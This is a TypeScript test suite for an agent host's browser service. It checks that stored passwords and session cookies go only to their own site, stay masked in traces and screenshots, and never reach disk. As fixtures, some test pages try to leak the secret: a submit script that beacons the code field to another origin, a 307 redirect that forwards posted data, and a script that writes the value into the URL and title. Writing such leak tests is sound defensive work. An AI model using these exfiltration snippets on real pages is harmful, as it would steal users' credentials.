import { mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import type { Need } from '@life-os/contract'
import type { BrowserDone, BrowserPage } from '@life-os/plugin-sdk'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { createCallLabels } from '../../labels/index.ts'
import { createSandbox } from '../../sandbox/index.ts'
import type { Sandbox } from '../../sandbox/index.ts'
import { openSecrets, token } from '../../secrets/testing.ts'
import type { Secrets } from '../../secrets/index.ts'
import { freshPlace } from '../../store/testing.ts'
import type { Store } from '../../store/index.ts'
import { createTestHost } from '../testing.ts'
import type { TestHost } from '../testing.ts'
import type { CallScope, HostServices } from '../types.ts'
import { openSite } from './testing.ts'
import type { TestSite } from './testing.ts'

const CANARY = 'canary-9f3b-of-a-password'
const OTHER = 'another-value-of-this-len'
const COOKIE = 'canary-77aa-of-a-session'
const LOGIN = `<title>Sign in</title><form action="/login" method="post">
  <label>Name <input name="name"></label><label>Code <input name="code"></label><button>Sign in</button></form>`

const stack = new AsyncDisposableStack()
let sandbox: Sandbox
let store: Store
let secrets: Secrets
let site: TestSite
let other: TestSite
let host: TestHost
let folder: string
const placeOf = (one: TestSite) => new URL(one.origin).host
const needs = (): Need[] => [
  ...[site, other].map(({ origin }) => ({ kind: 'browser', resource: origin })),
  ...['code', 'session'].map((resource) => ({ kind: 'secret.use', resource })),
]
beforeAll(async () => {
  sandbox = stack.use(await createSandbox())
  const place = stack.use(await freshPlace('sqlite'))
  store = stack.use(await place.open())
  secrets = await openSecrets(store)
  folder = mkdtempSync(path.join(tmpdir(), 'lifeos-browser-secrets-'))
  stack.defer(() => rmSync(folder, { recursive: true, force: true }))
  site = stack.use(await openSite())
  other = stack.use(await openSite())
  host = stack.use(await createTestHost(folder, { sandbox, secrets, home: place.home, blobs: store.blobs, allowed: needs() }))
}, 60_000)
afterAll(() => stack.disposeAsync())
beforeEach(async () => {
  for (const one of [site, other]) one.asked.length = 0
  await secrets.set(token('code', CANARY, [placeOf(site)]), 'ada')
})

const { signal } = new AbortController()
const failure = (work: Promise<unknown>) =>
  work.then(
    () => 'it did not fail',
    (error: unknown) => error,
  )
let runs = 0
/** A browser of its own, as a run has it; `more`: what else is said of its call. */
function run(more: Partial<CallScope> = {}, services: HostServices = host.real({ run: `run-${++runs}`, ...more })) {
  const call = <Result>(service: string, ...args: unknown[]) => services.handle(`browser.${service}`, args, signal) as Promise<Result> // the test says which
  return {
    call,
    open: async (address: string, options: object = {}) => (await call<BrowserPage>('open', site.origin + address, options)).page,
    fill: (page: string) => call<BrowserDone>('fill', page, [{ target: { label: 'Code' }, secret: 'code' }]),
    press: (page: string, name = 'Sign in') => call<BrowserDone>('act', page, { kind: 'click', target: { name }, expect: 'navigation' }),
    end: () => host.host.endRun(`run-${runs}`),
  }
}
const textOf = async (blob: string) => Buffer.from(await store.blobs.get(blob)).toString('latin1')

/** Files of the whole data folder that hold one of the words as it is. */
async function filesWith(words: readonly string[]): Promise<string[]> {
  await store.journal.flush()
  const files = readdirSync(store.home, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile())
  return files
    .map((file) => path.join(file.parentPath, file.name))
    .filter((file) => words.some((word) => readFileSync(file).includes(word)))
}

test('a secret reaches the site that it is meant for, and nothing that is kept or shown', { timeout: 60_000 }, async () => {
  const shot: string[] = []
  for (const value of [CANARY, OTHER]) {
    await secrets.set(token('code', value, [placeOf(site)]), 'ada')
    const own = run()
    // a page that stays where it is, says the value in its words, and keeps it in its fields and address
    site.on('/login', 'welcome')
    site.on(
      '/stay',
      `${LOGIN}<p id=said></p><script>document.forms[0].addEventListener('submit', async (event) => {
        event.preventDefault(); const { value } = document.forms[0].code; history.replaceState(null, '', '/stay?code=' + value)
        document.title = 'Hello ' + value; await fetch('/login', { method: 'POST', body: value }) })</script>`,
    )
    const page = await own.open('/stay')
    const filled = await own.fill(page)
    expect(await textOf(filled.trace)).toContain('[secret:code]')
    expect(site.to('/login')).toEqual([])
    const done = await own.press(page)
    const read = await own.call<{ tree: string }>('snapshot', page)
    expect(site.to('/login').at(-1)?.body).toBe(value)
    expect(done.title).toBe('Hello [secret:code]')
    const shown = JSON.stringify([filled, done, read, await textOf(done.trace), host.effects])
    expect(shown).not.toContain(value)
    shot.push((await own.call<{ blob: string }>('screenshot', page)).blob)
    site.asked.length = 0
    await own.end()
  }
  expect(shot[0], 'what is under the mask makes no difference').toBe(shot[1])
  expect(await filesWith([CANARY, OTHER])).toEqual([])
})

test('a preview names the secret and never opens it', { timeout: 60_000 }, async () => {
  site.on('/form', LOGIN)
  const { services, recording } = host.preview()
  const own = run({}, services)
  const page = await own.open('/form')
  await own.fill(page)
  expect(await failure(own.press(page))).toMatchObject({ code: 'recording-ended' })
  expect(recording.changes).toMatchObject([{ fields: [{ name: 'name' }, { name: 'code', value: '', kind: 'secret', secret: 'code' }] }])
  expect(await filesWith([CANARY])).toEqual([])
  await host.call('browser.close', page)
})

test('a form that is filled in again is sent once with what it was told last', { timeout: 60_000 }, async () => {
  site.on('/form', LOGIN)
  site.on('/login', 'welcome')
  const own = run()
  const page = await own.open('/form')
  await own.fill(page)
  await own.fill(page) // as the real call does, which finds the page of its preview
  await own.press(page)
  expect(site.to('/login').map(({ body }) => body)).toEqual([`name=&code=${CANARY}`])
  const again = await own.open('/form?again')
  await own.fill(again)
  await own.call('fill', again, [{ target: { label: 'Code' }, value: 'none' }])
  await own.press(again)
  expect(site.to('/login').at(-1)?.body).toBe('name=&code=none')
  await own.end()
})

test('a page that takes the field of a secret away gets nothing, and that is known', { timeout: 60_000 }, async () => {
  site.on('/form', `${LOGIN}<script>addEventListener('focusin', () => setTimeout(() => document.forms[0].code?.remove(), 2000))</script>`)
  const own = run()
  const page = await own.open('/form')
  await own.fill(page)
  await expect
    .poll(() => own.call('extract', page, { fields: { code: { css: '[name=code]', attribute: 'name' } } }), { timeout: 15_000 })
    .toEqual([{ code: null }])
  expect(await failure(own.press(page))).toMatchObject({ code: 'browser-form-changed', applied: 'no' })
  expect(site.to('/login')).toEqual([])
  await own.end()
})

test('a secret of another site is not filled in', { timeout: 60_000 }, async () => {
  await secrets.set(token('code', CANARY, [placeOf(other)]), 'ada')
  site.on('/form', LOGIN)
  const own = run()
  expect(await failure(own.fill(await own.open('/form')))).toMatchObject({ code: 'secret-elsewhere' })
  const without = run({ allowed: needs().filter(({ kind }) => kind === 'browser') })
  expect(await failure(without.fill(await without.open('/form')))).toMatchObject({ code: 'secret-not-allowed' })
})

test.each([
  ['by the address of the form', (to: string) => LOGIN.replace('/login', to), 'secret-elsewhere'],
  ['by a redirect that keeps what was sent', () => LOGIN.replace('/login', '/moved'), null],
  [
    'by a script when the button is pressed',
    (to: string) =>
      `${LOGIN}<script>document.forms[0].addEventListener('submit', () => navigator.sendBeacon('${to}', document.forms[0].code.value))</script>`,
    null,
  ],
])('the page of a secret sends it to no other site, allowed or not: %s', { timeout: 60_000 }, async (_, html, code) => {
  const to = `${other.origin}/login`
  site.on('/login', 'welcome')
  site.on('/moved', (_request, response) => void response.writeHead(307, { location: to }).end())
  site.on('/form', html(to))
  const own = run()
  const page = await own.open('/form')
  await own.fill(page)
  const failed = await failure(own.press(page))
  if (code !== null) expect(failed).toMatchObject({ code, applied: 'no' })
  expect(other.asked.filter(({ method }) => method !== 'GET')).toEqual([])
  expect(JSON.stringify(other.asked)).not.toContain(CANARY)
  await own.end()
})

test('a signed-in session is kept sealed, and opens pages of its own site alone', { timeout: 60_000 }, async () => {
  site.on('/form', LOGIN)
  site.on('/login', (_request, response) => {
    const headers = { 'set-cookie': `sid=${COOKIE}; HttpOnly; Path=/`, location: '/me' }
    response.writeHead(303, headers).end()
  })
  site.on('/me', ({ headers }, response) => {
    const who = headers.cookie?.includes(COOKIE) === true ? 'Hello Ada' : 'Who are you?'
    response.writeHead(200, { 'content-type': 'text/html' }).end(`<title>Me</title><p>${who}`)
  })
  const first = run()
  const page = await first.open('/form')
  await first.press(page)
  const saved = await first.call('saveSession', page, 'session')
  expect([saved, host.effects.at(-1)?.change]).toMatchObject([null, { action: 'save-session', target: 'session' }])
  await first.end()

  const seen = createCallLabels([])
  const second = run({ seen })
  const { text } = await second.call<{ text: string }>('snapshot', await second.open('/me', { session: 'session' }))
  expect(text).toContain('Hello Ada')
  expect(seen.sources).toContainEqual({ label: 'private', from: 'session session' })
  expect(await failure(second.call('open', `${other.origin}/`, { session: 'session' }))).toMatchObject({
    code: expect.stringMatching(/^(secret-elsewhere|private-not-allowed)$/),
  })
  await second.end()

  const third = run()
  expect(await third.call('snapshot', await third.open('/me'))).toMatchObject({ text: expect.stringContaining('Who are you?') })
  await third.end()
  await expect(host.services.handle('secrets.read', ['session'], signal)).rejects.toMatchObject({ code: 'secret-not-allowed' })
  expect(other.asked).toEqual([])
  expect(await filesWith([COOKIE])).toEqual([])
})

test('with private data no site is opened that nobody named', { timeout: 60_000 }, async () => {
  site.on('/', 'home')
  const seen = createCallLabels(['private'])
  const own = run({ labels: ['private'], seen, privateTo: [] })
  expect(await failure(own.open('/'))).toMatchObject({ code: 'private-not-allowed' })
  expect(site.asked).toEqual([])
  const named = run({ labels: ['private'], seen, privateTo: [placeOf(site)] })
  expect(await named.open('/')).toContain(site.origin)
  await named.end()
})

test.each([
  ['the address of its form', (origin: string) => `${origin}/got`, null],
  ['a redirect that keeps what was sent', () => '/sent', 307],
] as const)(
  'a private value that was filled in goes to no site that is only allowed: by %s',
  { timeout: 60_000 },
  async (_how, action, status) => {
    site.on(
      '/private',
      `<form action="${action(other.origin)}" method="post"><label>Note <input name="note"></label><button>Send</button></form>`,
    )
    if (status !== null)
      site.on('/sent', (_request, response) => void response.writeHead(status, { location: `${other.origin}/got` }).end())
    const own = run({ labels: ['private'], seen: createCallLabels(['private']), privateTo: [placeOf(site)] })
    const page = await own.open('/private')
    await own.call('fill', page, [{ target: { label: 'Note' }, value: 'words of a private file' }])
    const pressed = await failure(own.press(page, 'Send'))
    if (status === null) expect(pressed).toMatchObject({ code: 'private-not-allowed' })
    else expect(site.to('/sent')[0]?.body).toContain('words') // the site that was named had it
    expect(other.asked).toEqual([])
    await own.end()
  },
)
